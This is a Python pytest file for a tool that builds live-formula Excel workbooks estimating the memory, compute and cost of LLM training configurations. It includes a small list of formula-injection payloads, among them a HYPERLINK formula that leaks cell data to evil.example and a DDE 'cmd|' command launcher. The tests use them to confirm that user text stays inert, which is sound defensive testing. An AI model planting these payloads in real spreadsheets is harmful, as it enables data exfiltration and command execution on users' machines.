"""The live-formula workbook (README, "The workbook"): formulas generated from the registry,
cached values equal to the engine's, LibreOffice's own recalculation equal to the engine's,
hostile text kept as text, deterministic bytes, a template that is itself a valid input.

The workbook is checked as a reader sees it (openpyxl, pandas, LibreOffice), not by its XML; the
only XML touched is in ``_poisoned``, which makes every cached value wrong before LibreOffice
recalculates, so that what LibreOffice returns is its own result."""

from __future__ import annotations

import hashlib
import io
import json
import math
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import FORMULAE
from support.libreoffice import recalculate_with_libreoffice
from support.spec import with_figure
from test_docs import OUTSIDE  # the words that would point a reader outside the repository

from ledger_report.config import COLUMN_NAMES, COLUMNS, COUNT, ENUM, INT, Config
from ledger_report.engine import compute, config_from_mapping
from ledger_report.errors import InputError
from ledger_report.model import formula as fx
from ledger_report.model.definitions import REGISTRY
from ledger_report.model.expr import Col, Const, If, IsBlank
from ledger_report.render import workbook as wbk
from ledger_report.render.document import config_document
from ledger_report.render.workbook import (
    BUDGET,
    INPUTS,
    LEDGERS,
    SUMMARY,
    render_xlsx,
    sheet_title,
    summary_columns,
    template_xlsx,
)
from ledger_report.render.workbook.layout import LEDGER_FIRST_ROW, QUANTITY_LETTERS

ROOT = Path(__file__).resolve().parents[1]

ARCH_8B = dict(layers=32, hidden=4096, heads=32, kv_heads=8, ffn_hidden=14336, vocab=128256)

# XlsxWriter stores a formula's cached text equal to one of these as that error value (write_formula)
EXCEL_ERRORS = {"#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"}

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "#N/A",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "#DIV/0!",
)

# One row per situation the formulas must get right (names say which).
CONFIGS: list[dict] = [
    dict(
        ARCH_8B,
        name="dense-8b-zero1",
        notes="a dense row like the Qwen3-8B scenario",
        dp=8,
        zero=1,
        seq_len=8192,
        global_batch=512,
        tokens=1_000_000_000_000,
        days=30,
        price_per_gpu_hour=2.5,
    ),
    dict(
        name="moe-pp4-megatron-full",
        layers=48,
        hidden=4096,
        heads=32,
        kv_heads=4,
        ffn_hidden=12288,
        vocab=151936,
        experts=128,
        topk=8,
        moe_ffn_hidden=1536,
        framework="megatron",
        grad_dtype="fp32",
        dp=32,
        tp=2,
        pp=4,
        ep=8,
        zero=1,
        recompute="full",
        sequence_parallel=True,
        seq_len=4096,
        global_batch=1024,
        tokens=20_000_000_000_000,
        days=60,
        reserve_days=5,
        price_per_gpu_hour=2.0,
    ),
    dict(
        name="tied-deepspeed-z3-adafactor-no-tokens",
        layers=24,
        hidden=2048,
        heads=16,
        ffn_hidden=5632,
        vocab=32000,
        tied_embeddings=True,
        norm="layernorm",
        qk_norm=True,
        framework="deepspeed",
        zero=3,
        dp=64,
        optimizer="adafactor",
        flash_attention=False,
        seq_len=2048,
        global_batch=512,
    ),
    dict(
        name="params-only-offload-adam8bit",
        params_total=70_000_000_000,
        dp=16,
        tp=8,
        zero=2,
        optimizer="adam8bit",
        optimizer_at="host",
        master_at="nvme",
        gpu="H200",
        mfu=0.35,
        tokens=1_000_000_000_000,
        days=90,
        price_per_gpu_hour=3.0,
    ),
    dict(
        name="moe-split-from-params-per-rank",
        params_total=35_000_000_000,
        params_per_rank=8_000_000_000,
        params_active=3_000_000_000,
        ep=8,
        dp=8,
        zero=1,
        measured_peak_gb=70.5,
        tokens=500_000_000_000,
        days=20,
        global_batch=256,
        seq_len=4096,
    ),
    dict(
        ARCH_8B,
        name="hybrid-cp2-selective-fp32-lion",
        full_attention_every=4,
        linear_key_heads=16,
        linear_value_heads=32,
        linear_key_head_dim=128,
        linear_value_head_dim=128,
        linear_conv_kernel=4,
        cp=2,
        recompute="selective",
        seq_len=32768,
        weight_dtype="fp32",
        grad_dtype="fp32",
        optimizer="lion",
        logits_dtype="bf16",
        loss_chunks=4,
        micro_batch=2,
        global_batch=256,
        dp=4,
        gpu="B200",
        tokens=200_000_000_000,
        days=14,
    ),
    dict(
        name="sgd-fp16-pp4-uneven",
        layers=30,
        hidden=2560,
        heads=20,
        ffn_hidden=10240,
        vocab=50000,
        glu=False,
        pp=4,
        optimizer="sgd",
        weight_dtype="fp16",
        grad_dtype="fp16",
        main_grad_dtype="fp32",
        dp=2,
        seq_len=2048,
        global_batch=64,
        micro_batch=4,
        tokens=300_000_000_000,
        days=10,
        reserve_days=1,
    ),
    dict(
        name="模型甲/7b:[draft]",
        params_total=7_000_000_000,
        dp=8,
        zero=3,
        tokens=100_000_000_000,
        days=7,
        price_per_gpu_hour=1.0,
    ),
] + [
    dict(
        name=text, notes=HOSTILE[(i + 1) % len(HOSTILE)], params_total=1_000_000_000 * (i + 1), dp=2
    )
    for i, text in enumerate(HOSTILE)
]


def functions_used(formula: str) -> set[str]:
    """Names of the functions a formula calls (upper case; string literals skipped)."""
    calls = re.finditer(r'"(?:[^"]|"")*"|([A-Za-z_][A-Za-z0-9_.]*)\(', formula)
    return {m.group(1).upper() for m in calls if m.group(1)}


def _ledgers(configs=CONFIGS):
    return [compute(config_from_mapping(c)) for c in configs]


@pytest.fixture(scope="module")
def ledgers():
    return _ledgers()


@pytest.fixture(scope="module")
def built(ledgers) -> bytes:
    return render_xlsx(ledgers)


@pytest.fixture(scope="module")
def built_path(built, tmp_path_factory) -> Path:
    p = tmp_path_factory.mktemp("wb") / "built.xlsx"
    p.write_bytes(built)
    return p


def _load(data: bytes, **kw):
    return openpyxl.load_workbook(io.BytesIO(data), **kw)


def _same(expected, got) -> bool:
    """Engine value vs spreadsheet value: blanks equal None (or ""), numbers to rel 1e-9."""
    if got == "":
        got = None
    if expected == "":
        expected = None  # empty text is a blank cell
    if expected is None or got is None:
        return expected is None and got is None
    if isinstance(expected, bool) or isinstance(got, bool):
        return isinstance(got, bool) and isinstance(expected, bool) and expected == got
    if isinstance(expected, str) or isinstance(got, str):
        return str(expected) == str(got)
    return math.isclose(expected, got, rel_tol=1e-9, abs_tol=1e-6)


def _gb(v):
    return None if v is None else v / 1e9


HEADER = {
    key: header for header, key in summary_columns()
}  # the Summary's column headers by registry key
WORD = {True: "yes", False: "no", None: None}  # a truth value as the report sheets show it


def _summary_col(ws, key: str) -> int:
    """The column of the Summary that shows ``key``."""
    return next(c.column for c in ws[1] if c.value == HEADER[key])


def _ledger_mismatches(ws, ledgers, rows=None) -> list[str]:
    out = []
    for i, led in enumerate(ledgers):
        r = LEDGER_FIRST_ROW + (i if rows is None else rows[i])
        if ws[f"A{r}"].value != led.name:
            out.append(f"row {r}: name {ws[f'A{r}'].value!r} != {led.name!r}")
        for key, v in led.values.items():
            got = ws[f"{QUANTITY_LETTERS[key]}{r}"].value
            if not _same(v, got):
                out.append(f"{led.name} {key}: engine {v!r}, workbook {got!r}")
    return out


# ------------------------------------------------------------------------------------------
# Formulas from the registry


def _layout():
    return wbk.layout._layout()


def test_guards_use_the_registry_needs():
    """The spreadsheet blank analysis is the registry's: needs_of(expr) == Quantity.needs for all."""
    for q in REGISTRY:
        assert fx.needs_of(REGISTRY, q.expr) == q.needs, q.key


def test_every_quantity_has_a_formula_within_excel_limits():
    """227 templates, each under Excel's 8,192-character formula limit, using only allowed functions."""
    templates = fx.compile_registry(REGISTRY, _layout())
    assert list(templates) == REGISTRY.keys()
    for key, t in templates.items():
        text = t.fill(2, 3)
        assert len(text) < 8192, key
        assert functions_used(text) <= fx.FUNCTIONS, (key, text)
        assert "\x01" not in text and "\x02" not in text


@pytest.mark.parametrize(
    "value, text",
    [
        (10**9, "1000000000"),
        (1e9, "1000000000"),
        (1.5e22, "1.5E+22"),
        (1e-05, "1E-05"),
        (0.05, "0.05"),
        (8 / 6, "1.3333333333333333"),
        (10**16, "1E+16"),
        (-3, "-3"),
        (True, "TRUE"),
    ],
    ids=["int", "float-int", "big", "small", "decimal", "ratio", "huge-int", "negative", "bool"],
)
def test_number_literals(value, text):
    """Literals as 1E+9 or plain integers, never 1e9 (the formulas parser rejects it; ecosystem.md 3.1)."""
    assert fx.number(value) == text


def test_string_literals_double_quotes():
    assert fx.string('say "hi"') == '"say ""hi"""'


def test_blank_in_a_taken_branch_is_blank_not_an_error():
    """Python: If(c, x*2, 0) with x blank gives None, so the branch is guarded on its own; and a
    conditional inside MAX hoists its branch's blank test into the guard (MAX(1,"") is #VALUE!)."""
    from ledger_report.model.registry import COUNT, Registry

    reg = Registry()
    x = reg.define("x", Col("dp"), COUNT, "x", "x")
    c = reg.define("c", IsBlank(Col("tp")), COUNT, "c", "c")
    reg.define("y", If(c, x * 2, Const(0)), COUNT, "y", "y")
    reg.define("z", fx_max(1, If(c, x * 2, Const(0))), COUNT, "z", "z")
    lay = fx.Layout("Inputs", {"dp": "A", "tp": "B"}, {"x": "C", "c": "D", "y": "E", "z": "F"}, {})
    t = fx.compile_registry(reg, lay)
    assert t["y"].fill(2, 3) == 'IF(D3,IF(C3="","",C3*2),0)'
    assert t["z"].fill(2, 3) == 'IF(IF(D3,C3="",FALSE),"",MAX(1,IF(D3,C3*2,0)))'
    assert (
        t["x"].fill(2, 3) == 'IF(Inputs!A2="","",Inputs!A2)'
    )  # an empty cell reads as 0, not blank


def test_engine_rounds_and_compares_like_the_spreadsheet():
    """CEIL/FLOOR round to 15 significant digits first and near-equal numbers compare equal, as
    LibreOffice does (found by the random sweep below: 1706433408 x 4 x 7051776 / 13651467264 is
    3525888.0000000005 in floating point; Python's ceil gave 3525889, the workbook 3525888)."""
    import numpy as np

    from ledger_report.model.evaluate import evaluate_arrays, evaluate_row
    from ledger_report.model.expr import ceil, floor
    from ledger_report.model.registry import BOOL, COUNT, Registry

    reg = Registry()
    x = reg.define("x", Col("dp"), COUNT, "x", "x")
    reg.define("up", ceil(x * (4 * 7051776 / 13651467264)), COUNT, "up", "up")
    reg.define("down", floor(x * 0.1 * 3 / 0.3 / 1706433408 * 7), COUNT, "down", "down")
    reg.define("same", (x * 0.1 + x * 0.2).eq(x * 0.3), BOOL, "same", "same")
    reg.define("big", ceil(x * 2000 + 2**-11 * 0 + 0.5), COUNT, "big", "big")
    v = evaluate_row(reg, {"dp": 1706433408}, {})
    assert v["up"] == 3525888
    assert v["down"] == 7
    assert v["same"] is True
    arr = evaluate_arrays(reg, {"dp": np.array([1706433408, 1706433408])}, {})
    assert list(arr["up"]) == [3525888, 3525888] and list(arr["same"]) == [True, True]
    assert list(arr["down"]) == [7, 7] and list(arr["big"]) == [v["big"]] * 2


def fx_max(*xs):
    from ledger_report.model.expr import maximum

    return maximum(*xs)


# ------------------------------------------------------------------------------------------
# The workbook without a spreadsheet engine


LOOKUP_SHEETS = ["Dtypes", "Moments", "Optimizers", "GPUs", "Conventions", "Lists", "Models"]


@pytest.mark.slow
def test_sheets_and_layout(built, ledgers):
    """Summary first, Inputs, Ledgers, one print sheet per configuration, Budget, Help, the
    lookups (hidden: tables the formulas read, not pages)."""
    wb = _load(built)
    names = wb.sheetnames
    assert names[:3] == [SUMMARY, INPUTS, LEDGERS]
    k = len(LOOKUP_SHEETS)
    assert names[-2 - k :] == [BUDGET, "Help"] + LOOKUP_SHEETS
    assert [wb[n].sheet_state for n in names] == ["visible"] * (len(names) - k) + ["hidden"] * k
    print_sheets = names[3 : -2 - k]
    assert len(print_sheets) == len(ledgers)
    assert len(set(n.casefold() for n in names)) == len(names)
    for n in print_sheets:
        assert len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n)
    ws = wb[INPUTS]
    assert [c.value for c in ws[1]] == list(COLUMN_NAMES)
    led = wb[LEDGERS]
    assert led["A1"].value == "name"
    assert [led.cell(1, j).value for j in range(2, 2 + len(REGISTRY))] == REGISTRY.keys()
    assert led.freeze_panes == "B3"


@pytest.mark.slow
def test_every_computed_cell_is_a_formula(built, ledgers):
    """Ledgers and Summary data cells are all formulas, each row's the first row's moved down."""
    wb = _load(built)
    led = wb[LEDGERS]
    for r in range(LEDGER_FIRST_ROW, LEDGER_FIRST_ROW + len(ledgers)):
        for j in range(1, 2 + len(REGISTRY)):
            c = led.cell(r, j)
            assert c.data_type == "f", (c.coordinate, c.value)
    summ = wb[SUMMARY]
    for row in summ.iter_rows(min_row=2, max_row=1 + len(ledgers)):
        for c in row:
            if c.value is not None:
                assert c.data_type == "f", c.coordinate
    # the formula of a later row is the first row's, moved down (relative references)
    key = "peak_bytes_per_rank"
    col = QUANTITY_LETTERS[key]
    f3 = led[f"{col}3"].value
    f5 = led[f"{col}5"].value
    assert f3 != f5 and re.sub(r"\d+", "#", f3) == re.sub(r"\d+", "#", f5)


@pytest.mark.slow
def test_functions_are_libreoffice_74_and_excel_safe(built):
    """(e) Every function used is in openpyxl's FORMULAE (no _xlfn. prefix needed) and in the set
    LibreOffice 7.4 evaluates; no XLOOKUP/LET/SEQUENCE/FILTER; no 1e9-style literals."""
    from ledger_report.render.workbook import budget

    allowed = fx.FUNCTIONS | {"SUBSTITUTE"} | budget.FUNCTIONS  # the selector, the totals
    wb = _load(built)
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type != "f":
                    continue
                text = str(c.value)
                used = functions_used(text)
                seen |= used
                assert used <= allowed, (ws.title, c.coordinate, used - allowed)
                assert "_xlfn" not in text.lower()
                bare = re.sub(r'"(?:[^"]|"")*"', '""', text)
                assert not re.search(r"\d[eE]\d", bare), (c.coordinate, text)
    assert seen <= set(FORMULAE)
    assert {"INDEX", "MATCH", "IF", "CEILING"} <= seen


@pytest.mark.slow
def test_cached_values_are_the_engine_values(built, ledgers):
    """(c) openpyxl data_only sees the engine's numbers in every Ledgers cell, blanks as None."""
    wb = _load(built, data_only=True)
    assert _ledger_mismatches(wb[LEDGERS], ledgers) == []
    summ = wb[SUMMARY]
    headers = [c.value for c in summ[1]]
    col = {h: i for i, h in enumerate(headers)}
    for i, led in enumerate(ledgers):
        row = [c.value for c in summ[2 + i]]
        assert row[0] == led.name
        assert _same(_gb(led["peak_bytes_per_rank"]), row[col[HEADER["peak_bytes_per_rank"]]])
        assert _same(_gb(led["state_bytes_per_rank"]), row[col[HEADER["state_bytes_per_rank"]]])
        assert _same(WORD[led["fits"]], row[col[HEADER["fits"]]])
        assert _same(led["min_gpus_compute"], row[col[HEADER["min_gpus_compute"]]])
        assert _same(led["cost"], row[col[HEADER["cost"]]])
        assert _same(led["verdict_memory"], row[col[HEADER["verdict_memory"]]])
        assert _same(led["check_message"], row[col[HEADER["check_message"]]])


_REF = re.compile(r"=(?:'?([^'!]+)'?!)?\$?([A-Z]{1,3})\$?(\d+)")
_GUARDED_DIV = re.compile(r'=IF\(([^=]+)="","",\1/(1E\+9|1000000000|1073741824)\)')


@pytest.mark.slow
def test_every_formula_cell_caches_its_value(built, ledgers):
    """No formula cell is left without its cached value (pandas, previews and LibreOffice show
    cached values): read with openpyxl, a bare reference caches what the cell it names caches, a
    guarded GB/GiB division caches that cell / 1E+9 or / 2^30, and only a guarded formula (its
    blank branch) may cache a blank.  The Ledgers cells are checked against the engine elsewhere."""
    formulas, values = _load(built), _load(built, data_only=True)

    def cached_at(sheet: str, coord: str):
        return values[sheet][coord].value

    checked = blanks = 0
    for ws in formulas.worksheets:
        if ws.title == LEDGERS:
            continue
        for row in ws.iter_rows():
            for c in row:
                if c.data_type != "f":
                    continue
                got = values[ws.title][c.coordinate].value
                ref, div = _REF.fullmatch(c.value), _GUARDED_DIV.fullmatch(c.value)
                if ref:
                    want = cached_at(ref[1] or ws.title, f"{ref[2]}{ref[3]}")
                    assert _same(want, got), (ws.title, c.coordinate, c.value, want, got)
                elif div:
                    sheet, _, coord = div[1].rpartition("!")
                    src = cached_at(sheet.strip("'") or ws.title, coord.replace("$", ""))
                    want = None if src is None else src / float(div[2])
                    assert _same(want, got), (ws.title, c.coordinate, c.value, want, got)
                else:
                    assert got is not None or c.value.startswith("=IF("), (
                        ws.title,
                        c.coordinate,
                        c.value,
                    )
                checked += 1
                blanks += got is None
    # blanks: figures a row cannot give (the hostile rows give only params_total: no compute, no
    # activations) and the assumptions that do not apply; most cells carry a value
    assert checked > 1000 and 0 < blanks < checked / 2, (checked, blanks)


def test_pandas_reads_the_numbers(built_path, ledgers):
    """(c) pandas.read_excel (openpyxl underneath, no calculation) sees the engine's figures; the
    Inputs sheet (what a rebuild reads) keeps every name as text."""
    pd = pytest.importorskip("pandas")
    # keep_default_na=False: pandas would read a model named "#N/A" as NaN (reliability.md 0.3)
    inputs = pd.read_excel(built_path, sheet_name=INPUTS, keep_default_na=False, na_values=[""])
    assert list(inputs["name"]) == [l.name for l in ledgers]
    summ = pd.read_excel(built_path, sheet_name=SUMMARY, keep_default_na=False, na_values=[""])
    # a name that is an Excel error code is cached as that error (XlsxWriter), which pandas reads
    # as NaN until a spreadsheet recalculates the workbook
    assert [None if pd.isna(x) else x for x in summ["name"]] == [
        None if l.name in EXCEL_ERRORS else l.name for l in ledgers
    ]
    for i, led in enumerate(ledgers):
        if led["peak_bytes_per_rank"] is None:
            assert pd.isna(summ[HEADER["peak_bytes_per_rank"]][i])
        else:
            assert math.isclose(
                summ[HEADER["peak_bytes_per_rank"]][i],
                led["peak_bytes_per_rank"] / 1e9,
                rel_tol=1e-12,
            )
        assert math.isclose(summ[HEADER["hbm_bytes"]][i], led["hbm_bytes"] / 1e9, rel_tol=1e-12)
    led_df = pd.read_excel(
        built_path, sheet_name=LEDGERS, skiprows=[1], keep_default_na=False, na_values=[""]
    )
    for i, led in enumerate(ledgers):
        assert (
            pd.isna(led_df["name"][i])
            if led.name in EXCEL_ERRORS
            else led_df["name"][i] == led.name
        )
        for key in (
            "peak_bytes_per_rank",
            "params_total",
            "flops_per_token",
            "state_bytes_logical_total",
        ):
            if led[key] is None:
                assert pd.isna(led_df[key][i]), key
            else:
                assert math.isclose(led_df[key][i], led[key], rel_tol=1e-12), key
    blank = next(i for i, l in enumerate(ledgers) if l["total_flops"] is None)
    assert pd.isna(led_df["total_flops"][blank])


@pytest.mark.slow
def test_hostile_text_stays_text(built, ledgers):
    """(d) INJ-01/02: names and notes starting with = + - @ or equal to #N/A are text cells with
    the quote prefix, never formulas or error values; the Ledgers name column shows them verbatim."""
    wb = _load(built)
    ws = wb[INPUTS]
    seen = 0
    for r in range(2, 2 + len(ledgers)):
        for col in ("A", "B"):
            c = ws[f"{col}{r}"]
            if c.value in HOSTILE:
                seen += 1
                assert c.data_type == "s", (c.coordinate, c.value)
                assert c.quotePrefix, c.coordinate
    assert seen == 2 * len(HOSTILE)
    # nowhere a formula made of user text, an error cell, or user text stored as anything but text
    formulas = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "e", (sheet.title, c.coordinate, c.value)
                if c.data_type == "f":
                    formulas.append(c.value)
                elif c.value in HOSTILE:
                    assert c.data_type == "s", (sheet.title, c.coordinate, c.value)
    assert len(formulas) > 1000 and not any("HYPERLINK" in f or "cmd|" in f for f in formulas)
    data = _load(built, data_only=True)[LEDGERS]
    names = [data[f"A{LEDGER_FIRST_ROW + i}"] for i in range(len(ledgers))]
    assert [c.value for c in names] == [l.name for l in ledgers]
    # the cached copy of a name is text, except a name that is an Excel error code, which
    # XlsxWriter caches as that error until the first recalculation (which gives the text again:
    # test_libreoffice_reopens_without_errors)
    assert {c.value for c in names if c.data_type == "e"} == EXCEL_ERRORS & set(HOSTILE)
    assert all(c.data_type == "s" for c in names if c.value not in EXCEL_ERRORS)


@pytest.mark.slow
def test_identical_bytes_on_rebuild(built, ledgers):
    """(f) DET-01: same input, same bytes; also across processes with different hash seeds."""
    assert render_xlsx(ledgers) == built
    code = (
        "import json,sys,hashlib\n"
        "from ledger_report.engine import compute, config_from_mapping\n"
        "from ledger_report.render.workbook import render_xlsx\n"
        "cs=json.load(sys.stdin)\n"
        "print(hashlib.sha256(render_xlsx([compute(config_from_mapping(c)) for c in cs])).hexdigest())\n"
    )
    digests = set()
    for seed in ("1", "2"):
        env = dict(os.environ, PYTHONHASHSEED=seed, PYTHONPATH=str(ROOT))
        out = subprocess.run(
            [sys.executable, "-c", code],
            input=json.dumps(CONFIGS),
            capture_output=True,
            text=True,
            env=env,
            check=True,
        )
        digests.add(out.stdout.strip())
    assert digests == {hashlib.sha256(built).hexdigest()}


@pytest.mark.slow
def test_fixed_document_properties(built):
    """DET-02: fixed creator, title and dates; no user or machine name (XlsxWriter always writes
    lastModifiedBy: the creator); every zip entry stamped 1980-01-01 00:00:00."""
    import datetime

    props = _load(built).properties
    assert props.created == props.modified == datetime.datetime(2000, 1, 1)
    assert props.creator == props.lastModifiedBy == "ledger-report"
    assert props.title.startswith("ledger-report")
    with zipfile.ZipFile(io.BytesIO(built)) as z:
        assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in z.infolist())


def test_built_workbook_is_a_valid_input(built_path, ledgers):
    """The workbook is an input too: read_configs reads the built workbook back (Inputs only) to the same figures."""
    from ledger_report.inputs import read_configs

    back = read_configs(built_path)
    assert [c.name for c in back] == [l.name for l in ledgers]
    for cfg, led in zip(back, ledgers):
        again = compute(cfg)
        for key, v in led.values.items():
            assert _same(v, again[key]), (led.name, key, v, again[key])


@pytest.mark.slow
def test_inputs_keep_blanks_and_types(built, ledgers):
    """Blank stays blank (defaults resolve by formula); counts are numbers; booleans are booleans."""
    ws = _load(built)[INPUTS]
    col = {name: i + 1 for i, name in enumerate(COLUMN_NAMES)}
    moe = next(i for i, c in enumerate(CONFIGS) if c["name"] == "moe-pp4-megatron-full")
    r = 2 + moe
    assert ws.cell(r, col["kv_heads"]).value == 4
    assert ws.cell(r, col["head_dim"]).value is None
    assert ws.cell(r, col["sequence_parallel"]).value is True
    assert ws.cell(r, col["tokens"]).value == 20_000_000_000_000
    assert ws.cell(r, col["framework"]).data_type == "s"


@pytest.mark.slow
def test_dropdowns_for_every_enumerated_column(built):
    """Every enumerated input has a list validation fed from a lookup sheet (a defined name)."""
    wb = _load(built)
    ws = wb[INPUTS]
    by_col = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            by_col[rng.min_col] = dv
    for j, col in enumerate(COLUMNS, start=1):
        if col.kind == ENUM:
            dv = by_col[j]
            assert dv.type == "list", col.name
            name = dv.formula1.lstrip("=")
            assert name in wb.defined_names, (col.name, name)
            dest = list(wb.defined_names[name].destinations)
            sheet, rng = dest[0]
            values = [c.value for row in wb[sheet][rng.replace("$", "")] for c in row]
            if col.choices:
                assert values == list(col.choices), col.name
            else:  # the GPU list: the catalogue's names (a name defined twice would leave Excel one empty range)
                assert values and all(values), col.name
    names = re.findall(
        rb'<definedName name="([^"]+)"( localSheetId="\d+")?',
        zipfile.ZipFile(io.BytesIO(built)).read("xl/workbook.xml"),
    )
    assert len(names) == len(set(names)) and (b"list_gpu", b"") in names, sorted(
        n for n in names if names.count(n) > 1
    )


CHOSEN_NAME = (
    f"{openpyxl.utils.get_column_letter(wbk.layout.CHOSEN_CELL[0])}3"  # the Ledger sheet's dropdown
)
CHOSEN_ROW = wbk.layout.CHOSEN_ROW_REF.replace("$", "")  # ... and the row it picks within Ledgers


def _fit(value) -> int:
    return 1 if value is None else int(value)  # absent = 1, the OOXML default (XlsxWriter omits it)


@pytest.mark.slow
def test_print_sheets_are_a4_landscape_one_page(built, ledgers):
    """One sheet per configuration (<= 50): A4 landscape, fit to one page, centred, narrow
    margins, no gridlines, the name in the header; the Summary prints one page wide with its
    header row repeated."""
    wb = _load(built)
    for i, led in enumerate(ledgers):
        ws = wb.worksheets[3 + i]
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert _fit(ws.page_setup.fitToWidth) == 1 and _fit(ws.page_setup.fitToHeight) == 1
        assert ws.oddHeader.center.text == led.name.replace("&", "&&")[:120]
        assert ws.oddHeader.center.size == 11
        assert ws.oddFooter.left.text.startswith("ledger-report")
        assert re.fullmatch(r"'?.+'?!\$A\$1:\$[A-Z]{1,2}\$\d+", ws.print_area), ws.print_area
        assert ws.print_options.horizontalCentered
        assert (ws.page_margins.left, ws.page_margins.top) == (0.4, 0.75)
        assert ws.page_margins.header == 0.3  # the header (11 points) sits inside the top margin
        assert ws.sheet_view.showGridLines is False
        last_col = re.search(r"\$([A-Z]+)\$\d+$", ws.print_area)[1]
        assert f"R2:{last_col}2" in {
            str(m) for m in ws.merged_cells.ranges
        }  # the notes line, to the page's edge
    summ = wb[SUMMARY]
    n = len(ledgers)
    width = 1 + len(HEADER)
    assert summ.page_setup.orientation == "landscape" and int(summ.page_setup.paperSize) == 9
    assert (
        _fit(summ.page_setup.fitToWidth) == 1
        and _fit(summ.page_setup.fitToHeight) == wbk.summary_pages(n) == 1
    )
    assert summ.print_title_rows == "$1:$1"
    last = openpyxl.utils.get_column_letter(width)
    assert summ.print_area.endswith(
        f"$A$1:${last}${1 + n + 1 + wbk.summary._CHART_ROWS}"
    )  # the table and the chart below it
    assert summ.auto_filter.ref == f"A1:{last}{1 + n}"
    assert summ.freeze_panes == "B2"
    # the sheets that are not pages print nothing (one empty cell); the lookups are hidden
    for name in (INPUTS, LEDGERS, "Help"):
        assert wb[name].print_area.endswith(f"$A${wbk.layout.NO_PRINT_ROW}"), name
    assert not wb[BUDGET].print_area.endswith(f"$A${wbk.layout.NO_PRINT_ROW}")  # the Budget prints


def test_page_header_keeps_ampersands_and_image_codes_literal():
    """A name with ``&`` (doubled: a header code otherwise) and ``&G`` (XlsxWriter reads it as an
    image placeholder even after a doubled ``&``, and would drop the header): the header is
    written and shows the name."""
    led = compute(config_from_mapping(dict(name="R&D&G [Picture] lab", params_total=10**9)))
    ws = _load(render_xlsx([led])).worksheets[3]
    assert ws.oddHeader.center.text == "R&&D\uff06G [Picture] lab"


@pytest.mark.parametrize(
    "name, title",
    [
        ("llama/7b", "llama_7b"),
        ("a" * 40, "a" * 31),
        ("History", "History (2)"),
        ("'x'", "x"),
        ("模型甲", "模型甲"),
        ("Summary", "Summary (2)"),
        ("[a]:b*?", "_a__b__"),
        ("", "config"),
    ],
    ids=["slash", "long", "reserved", "quotes", "cjk", "clash", "brackets", "empty"],
)
def test_sheet_titles(name, title):
    """INJ-05: sanitised, <= 31 characters, unique, never a reserved name."""
    assert sheet_title(name, wbk.RESERVED_TITLES) == title


def test_sheet_titles_unique_after_truncation():
    taken = set(wbk.RESERVED_TITLES)
    titles = []
    for _ in range(3):
        t = sheet_title("x" * 40, taken)
        taken.add(t)
        titles.append(t)
    assert titles == ["x" * 31, "x" * 27 + " (2)", "x" * 27 + " (3)"]


@pytest.mark.slow
def test_many_configurations_use_one_chosen_ledger_sheet(tmp_path, monkeypatch):
    """Above 50 configurations: no per-configuration sheets, one Ledger sheet with a dropdown."""
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # this test's own temporary folder
    configs = [dict(name=f"c{i}", params_total=10**9 * (1 + i), dp=1 + i % 4) for i in range(51)]
    data = render_xlsx(_ledgers(configs))
    wb = _load(data)
    assert "Ledger" in wb.sheetnames and len(wb.sheetnames) == 6 + len(LOOKUP_SHEETS)
    ws = wb["Ledger"]
    assert ws[CHOSEN_NAME].value == "c0"
    assert ws.data_validations.dataValidation[0].formula1.endswith(f"$A${LEDGER_FIRST_ROW + 50}")
    vals = _load(data, data_only=True)["Ledger"]
    assert vals[CHOSEN_ROW].value == 1
    # #27 cost per row: above 50 configurations the sheets' XML goes through a temporary folder
    # (not one string per sheet): removed afterwards, the bytes as deterministic
    assert list(tmp_path.iterdir()) == []
    assert render_xlsx(_ledgers(configs)) == data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 31, 0, 0, 0)}


def test_template_workbook():
    """`ledger-report template`: the input columns (docs/columns.md) with help comments, dropdowns, an example row
    that read_configs accepts, a Help sheet, deterministic bytes."""
    data = template_xlsx()
    assert data == template_xlsx()
    wb = _load(data)
    assert wb.sheetnames[0] == INPUTS and "Help" in wb.sheetnames and LEDGERS not in wb.sheetnames
    ws = wb[INPUTS]
    assert [c.value for c in ws[1]] == list(COLUMN_NAMES)
    for c in ws[1]:
        assert c.comment is not None and c.comment.text
    assert "default: predicted" in ws["A1"].offset(0, COLUMN_NAMES.index("mfu")).comment.text
    assert len(ws.data_validations.dataValidation) >= sum(1 for c in COLUMNS if c.kind == ENUM)
    by_col = {
        rng.min_col: dv for dv in ws.data_validations.dataValidation for rng in dv.sqref.ranges
    }
    for j, col in enumerate(COLUMNS, start=1):
        dv = by_col.get(j)
        if col.kind == ENUM:
            assert dv.type == "list" and dv.formula1 in wb.defined_names, col.name
        elif col.kind == COUNT:
            # README: counts accept 35B, 5T, 8.19e9 as text; the rule is a warning, not a refusal
            letter = openpyxl.utils.get_column_letter(j)
            assert dv.type == "custom", col.name
            assert (
                dv.formula1
                == f"OR(ISTEXT({letter}2),AND(ISNUMBER({letter}2),{letter}2>={col.minimum:g}))"
            )
            assert dv.errorStyle == "warning" and "35B" in dv.error
            assert str(dv.sqref) == f"{letter}2:{letter}{1 + wbk.TEMPLATE_ROWS}"
        elif col.kind == INT and col.minimum is not None:
            assert dv.type == "whole" and dv.formula1 == f"{col.minimum:g}", col.name
    assert ws.freeze_panes == "B2"
    import tempfile

    from ledger_report.inputs import read_configs

    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / "template.xlsx"
        p.write_bytes(data)
        configs = read_configs(p)
    assert [c.name for c in configs] == [wbk.EXAMPLE_ROW["name"]]
    led = compute(configs[0])
